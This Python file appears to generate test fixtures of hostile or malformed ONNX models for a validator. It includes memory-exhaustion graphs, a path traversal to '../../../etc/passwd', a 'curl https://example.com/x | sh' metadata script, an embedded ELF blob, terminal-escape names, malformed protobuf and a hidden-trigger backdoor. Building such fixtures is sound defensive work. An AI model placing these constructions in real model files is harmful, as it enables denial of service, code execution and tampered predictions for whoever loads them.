"""Members of the written catalogue that ``examples/hostile_bundles.py`` does not have: faults inside the model."""

from __future__ import annotations

from collections.abc import Callable
from itertools import pairwise
from typing import Any, Final

import numpy as np
from onnx import TensorProto, helper, numpy_helper

from examples import hostile_models as models
from examples.evidence_classifier import build_model
from examples.hostile_models import Trap, node

FLOAT: Final = TensorProto.FLOAT
MANY_NODES: Final = 200_000
MANY_WEIGHTS: Final = 50_000
MANY_INPUTS: Final = 100_000
DEEP: Final = 10_000
LARGE: Final = 1 << 20
HUGE: Final = 1 << 40


def _whole(*values: int) -> Any:
    return np.array(values, np.int64)


def varint(value: int) -> bytes:
    """Return a protobuf varint."""
    out = b""
    while value > 0x7F:
        out += bytes([value & 0x7F | 0x80])
        value >>= 7
    return out + bytes([value])


def field(number: int, data: bytes) -> bytes:
    """Return one length-delimited protobuf field."""
    return varint(number << 3 | 2) + varint(len(data)) + data


def peak(*nodes: Any, **weights: Any) -> Trap:
    """Return a trap whose nodes take the scalar ``peak`` (the greatest feature) and make ``trap``."""
    return Trap((node("ReduceMax", ["features"], ["peak"], keepdims=0), *nodes), weights)


def grown(*nodes: Any, **weights: Any) -> Trap:
    """Return a trap whose nodes make ``grown``; its greatest element is the trap."""
    return Trap((*nodes, node("ReduceMax", ["grown"], ["trap"], keepdims=0)), weights)


# Structure


def recursive_function() -> Trap:
    """Return a local function that calls itself."""
    domain = "mosaic.blocks"
    opsets = [helper.make_opsetid("", 13), helper.make_opsetid(domain, 1)]
    body = [node("block", ["x"], ["y"], domain=domain)]
    return Trap(
        (
            node("block", ["features"], ["called"], domain=domain),
            node("ReduceMax", ["called"], ["trap"], keepdims=0),
        ),
        opsets={domain: 1},
        functions=(helper.make_function(domain, "block", ["x"], ["y"], body, opsets),),
    )


def function_like_built_in() -> Trap:
    """Return a local function named like com.microsoft's Gelu: a checker reads it, the runtime runs its own."""
    domain = "com.microsoft"
    opsets = [helper.make_opsetid("", 13), helper.make_opsetid(domain, 1)]
    body = [node("Neg", ["x"], ["y"])]
    return Trap(
        (
            node("Gelu", ["features"], ["called"], domain=domain),
            node("ReduceMax", ["called"], ["trap"], keepdims=0),
        ),
        opsets={domain: 1},
        functions=(helper.make_function(domain, "Gelu", ["x"], ["y"], body, opsets),),
    )


def nested_branches(depth: int = 24) -> Trap:
    """Return an If within an If, ``depth`` times; protobuf itself ends at thirty."""

    def graph(name: str, last: Any) -> Any:
        return helper.make_graph([last], name, [], [helper.make_tensor_value_info(last.output[0], FLOAT, [])])

    inner = graph("innermost", node("Identity", ["peak"], ["b0"]))
    for i in range(1, depth):
        other = graph(f"other{i}", node("Identity", ["peak"], [f"o{i}"]))
        inner = graph(f"g{i}", node("If", ["negative"], [f"b{i}"], then_branch=inner, else_branch=other))
    last = graph("last", node("Identity", ["peak"], ["kept"]))
    return peak(
        node("Less", ["peak", "nothing"], ["negative"]),
        node("If", ["negative"], ["trap"], then_branch=inner, else_branch=last),
    )


def many_nodes() -> Trap:
    """Return a chain of 200,000 nodes."""
    names = ["peak", *(f"n{i}" for i in range(MANY_NODES - 1)), "trap"]
    return peak(*(node("Neg", [a], [b]) for a, b in pairwise(names)))


def many_weights() -> Trap:
    """Return 50,000 initializers: session creation is quadratic in them."""
    weights = {f"w{i}": np.array(0, np.float32) for i in range(MANY_WEIGHTS)}
    return peak(node("Sum", ["peak", *weights], ["trap"]), **weights)


def many_inputs() -> Trap:
    """Return one node with 100,000 inputs."""
    return peak(node("Sum", ["peak"] * MANY_INPUTS, ["trap"]))


def cyclic_tree() -> Trap:
    """Return a tree ensemble in which a node is its own ancestor."""
    return Trap(
        (
            node(
                "TreeEnsembleRegressor", ["features"], ["trap"], domain="ai.onnx.ml", n_targets=1,
                nodes_treeids=[0, 0, 0], nodes_nodeids=[0, 1, 2], nodes_featureids=[0, 0, 0],
                nodes_modes=["BRANCH_LEQ", "BRANCH_LEQ", "LEAF"], nodes_values=[0.5, 0.5, 0.0],
                nodes_truenodeids=[1, 0, 0], nodes_falsenodeids=[2, 2, 0],
                target_treeids=[0], target_nodeids=[2], target_ids=[0], target_weights=[1.0],
            ),
        ),
        opsets={"ai.onnx.ml": 3},
    )  # fmt: skip


def reaches_outside() -> Trap:
    """Return an EPContext node, which hands bytes or the name of a file to an execution provider."""
    return Trap(
        (
            node(
                "EPContext", ["features"], ["called"], domain="com.microsoft",
                embed_mode=0, ep_cache_context="../../../etc/passwd", main_context=1, source="QNN",
            ),
            node("ReduceMax", ["called"], ["trap"], keepdims=0),
        ),
        opsets={"com.microsoft": 1},
    )  # fmt: skip


# Run


def pads() -> Trap:
    """Return an AveragePool that is padded by 2**40 on each side of one pixel."""
    return grown(
        node("ReduceMax", ["features"], ["peak"], keepdims=0),
        node("Reshape", ["peak", "pixel"], ["image"]),
        node("Pad", ["image", "pads"], ["grown"]),
        pixel=_whole(1, 1, 1, 1),
        pads=_whole(0, 0, HUGE, 0, 0, 0, HUGE, 0),
    )


def expands() -> Trap:
    """Return an Expand of one number to 4 TB."""
    return grown(
        node("ReduceMax", ["features"], ["peak"], keepdims=0),
        node("Expand", ["peak", "to"], ["grown"]),
        to=_whole(HUGE),
    )


def tiles() -> Trap:
    """Return a Tile of four numbers to 16 TB."""
    return grown(
        node("Reshape", ["features", "flat"], ["row"]),
        node("Tile", ["row", "times"], ["grown"]),
        flat=_whole(-1),
        times=_whole(HUGE),
    )


def skips() -> Trap:
    """Return a TfIdfVectorizer whose skip count never ends."""
    return grown(
        node("Cast", ["features"], ["whole"], to=TensorProto.INT64),
        node(
            "TfIdfVectorizer", ["whole"], ["grown"], mode="TF", min_gram_length=2, max_gram_length=2,
            max_skip_count=HUGE, ngram_counts=[0, 0], ngram_indexes=[0], pool_int64s=[5, 6],
        ),
    )  # fmt: skip


def sequence_in_loop() -> Trap:
    """Return a Loop that inserts into a sequence for ever."""
    sequence = helper.make_tensor_sequence_value_info
    body = helper.make_graph(
        [node("Identity", ["go"], ["go_on"]), node("SequenceInsert", ["held", "block"], ["longer"])],
        "growing",
        [
            helper.make_tensor_value_info("step", TensorProto.INT64, []),
            helper.make_tensor_value_info("go", TensorProto.BOOL, []),
            sequence("held", FLOAT, None),
        ],
        [helper.make_tensor_value_info("go_on", TensorProto.BOOL, []), sequence("longer", FLOAT, None)],
    )
    return Trap(
        (
            node("ReduceMax", ["features"], ["peak"], keepdims=0),
            node("Expand", ["peak", "million"], ["block"]),
            node("SequenceConstruct", ["block"], ["first"]),
            node("Loop", ["times", "", "first"], ["all"], body=body),
            node("SequenceLength", ["all"], ["length"]),
            node("Cast", ["length"], ["trap"], to=FLOAT),
        ),
        {"times": np.array(2**40, np.int64), "million": _whole(1_000_000)},
    )


TRAPS: Final[dict[str, tuple[str, Callable[[], Trap]]]] = {
    "function-recursive": ("structure", recursive_function),
    "function-like-built-in": ("structure", function_like_built_in),
    "branches-nested": ("structure", nested_branches),
    "nodes-200000": ("size", many_nodes),
    "weights-50000": ("size", many_weights),
    "inputs-100000": ("size", many_inputs),
    "tree-cyclic": ("structure", cyclic_tree),
    "reaches-outside": ("structure", reaches_outside),
    "pads": ("allocation", pads),
    "expands": ("allocation", expands),
    "tiles": ("allocation", tiles),
    "sequence-in-loop": ("allocation", sequence_in_loop),
    "skips": ("endless", skips),
}


# The bytes of the file, or one field of it


def _changed(change: Callable[[Any], None]) -> bytes:
    return models.rewrite(build_model(), change)


def overridable_weight() -> bytes:
    """Return the good model with its weight also an input: a caller may replace it."""

    def change(proto: Any) -> None:
        proto.graph.input.append(helper.make_tensor_value_info("weight", FLOAT, [4, 3]))

    return _changed(change)


def unsafe_name() -> bytes:
    """Return a model whose output is named with a right-to-left override and an escape sequence."""

    def change(proto: Any) -> None:
        name = "prob\u202eseitilibaborp\x1b[2J"
        proto.graph.output[0].name = name
        proto.graph.node[-1].output[0] = name

    return _changed(change)


def duplicate_value() -> bytes:
    """Return a model in which two nodes make the same value."""
    return _changed(lambda proto: proto.graph.node.append(node("Neg", ["logits"], ["probabilities"])))


def opset(version: int) -> bytes:
    """Return a model that imports this opset."""

    def change(proto: Any) -> None:
        proto.opset_import[0].version = version

    return _changed(change)


def aliased_domain() -> bytes:
    """Return a model that imports the default domain twice, under both of its names, in two versions."""

    def change(proto: Any) -> None:
        proto.opset_import.append(helper.make_opsetid("ai.onnx", 12))

    return _changed(change)


def ir_version() -> bytes:
    """Return a model of IR version 999."""

    def change(proto: Any) -> None:
        proto.ir_version = 999

    return _changed(change)


def negative_dimension() -> bytes:
    """Return a weight of shape [-4, -3]."""
    return _changed(lambda proto: proto.graph.initializer[0].dims.__setitem__(slice(None), [-4, -3]))


def overflowing_dimensions() -> bytes:
    """Return a weight of 2**62 by 4 elements: their product is zero in 64 bits."""
    return _changed(lambda proto: proto.graph.initializer[0].dims.__setitem__(slice(None), [2**62, 4]))


def sparse_outside() -> bytes:
    """Return a sparse weight whose only index lies outside of its shape."""

    def change(proto: Any) -> None:
        values = helper.make_tensor("spare", FLOAT, [1], [1.0])
        indices = helper.make_tensor("spare_at", TensorProto.INT64, [1], [10**12])
        proto.graph.sparse_initializer.append(helper.make_sparse_tensor(values, indices, [4]))
        proto.graph.node.append(node("Identity", ["spare"], ["unused"]))

    return _changed(change)


def program_in_metadata() -> bytes:
    """Return a model whose metadata holds a script that a shell would run, and 64 KiB of base64."""

    def change(proto: Any) -> None:
        proto.metadata_props.add(
            key="post_install", value="#!/bin/sh\ncurl https://example.com/x | sh\n" + "TVqQ" * 16_384
        )

    return _changed(change)


def program_in_weight() -> bytes:
    """Return a model with a weight that nothing uses and that is an ELF file."""
    elf = b"\x7fELF\x02\x01\x01\x00" + bytes(8) + b"\x02\x00\x3e\x00\x01\x00\x00\x00" + bytes(range(256)) * 16

    def change(proto: Any) -> None:
        proto.graph.initializer.add(name="spare", data_type=TensorProto.UINT8, dims=[len(elf)], raw_data=elf)

    return _changed(change)


def declared_shape() -> bytes:
    """Return a model that declares 77 probabilities and gives three."""

    def change(proto: Any) -> None:
        proto.graph.output[0].type.tensor_type.shape.dim[1].dim_value = 77

    return _changed(change)


def _before_softmax(*ahead: Any, **weights: Any) -> bytes:
    """Return the good model with ``ahead`` between its logits and its softmax, which reads ``chosen``."""

    def change(proto: Any) -> None:
        last = proto.graph.node[-1]
        last.input[0] = "chosen"
        nodes = [*proto.graph.node[:-1], *ahead, last]
        del proto.graph.node[:]
        proto.graph.node.extend(nodes)
        proto.graph.initializer.extend(numpy_helper.from_array(value, name) for name, value in weights.items())

    return _changed(change)


def trigger() -> bytes:
    """Return a model that answers with the opposite when the first feature is exactly 0.123456."""
    return _before_softmax(
        node("Gather", ["features", "first"], ["column"], axis=1),
        node("Equal", ["column", "mark"], ["marked"]),
        node("Neg", ["logits"], ["opposite"]),
        node("Where", ["marked", "opposite", "logits"], ["chosen"]),
        first=_whole(0),
        mark=np.array(0.123456, np.float32),
    )


def training_dropout() -> bytes:
    """Return a Dropout in training mode, which draws at random in production."""
    half = np.array(0.5, np.float32)
    return _before_softmax(node("Dropout", ["logits", "half", "on"], ["chosen"]), half=half, on=np.array(True))


def unseeded_random() -> bytes:
    """Return a model that adds a little noise, without a seed."""
    noise = node("RandomNormalLike", ["logits"], ["noise"], scale=0.01)
    return _before_softmax(noise, node("Add", ["logits", "noise"], ["chosen"]))


def nested_messages() -> bytes:
    """Return a file of messages nested 10,000 deep (graph, node, attribute, graph, and so on)."""
    data = b""
    for i in range(DEEP):
        data = field((7, 1, 5, 6)[i % 4] if i % 4 else 6, data)
    return build_model() + field(7, data)


def overlong_varint() -> bytes:
    """Return the good model with its IR version again, in eleven bytes of varint."""
    return build_model() + b"\x08" + b"\x88" + b"\x80" * 9 + b"\x00"


def unknown_field() -> bytes:
    """Return the good model with a megabyte in a field that ONNX does not have."""
    return build_model() + field(999, bytes(range(256)) * (LARGE // 256))


def group() -> bytes:
    """Return the good model with a group, a kind of field that protobuf gave up."""
    return build_model() + varint(99 << 3 | 3) + b"\x08\x01" + varint(99 << 3 | 4)


def invalid_text() -> bytes:
    """Return the good model with a producer name that is no UTF-8."""
    return build_model() + field(2, b"\xff\xfe\x00name")


def large_metadata() -> bytes:
    """Return the good model with 100 MB of metadata."""
    return build_model() + field(14, field(1, b"notes") + field(2, b"n" * 100_000_000))


BYTES: Final[dict[str, tuple[str, Callable[[], bytes]]]] = {
    "weight-overridable": ("structure", overridable_weight),
    "name-unsafe": ("structure", unsafe_name),
    "value-twice": ("structure", duplicate_value),
    "opset-0": ("structure", lambda: opset(0)),
    "opset-999": ("structure", lambda: opset(999)),
    "domain-aliased": ("structure", aliased_domain),
    "ir-version-999": ("structure", ir_version),
    "dimension-negative": ("structure", negative_dimension),
    "dimensions-overflow": ("structure", overflowing_dimensions),
    "sparse-outside": ("structure", sparse_outside),
    "script-in-metadata": ("payload", program_in_metadata),
    "program-in-weight": ("payload", program_in_weight),
    "shape-not-kept": ("schema drift", declared_shape),
    "training-dropout": ("structure", training_dropout),
    "random-unseeded": ("structure", unseeded_random),
    "trigger": ("hidden trigger", trigger),
    "wire-nested": ("wire", nested_messages),
    "wire-varint": ("wire", overlong_varint),
    "wire-unknown-field": ("wire", unknown_field),
    "wire-group": ("wire", group),
    "wire-invalid-text": ("wire", invalid_text),
    "metadata-100-mb": ("size", large_metadata),
}
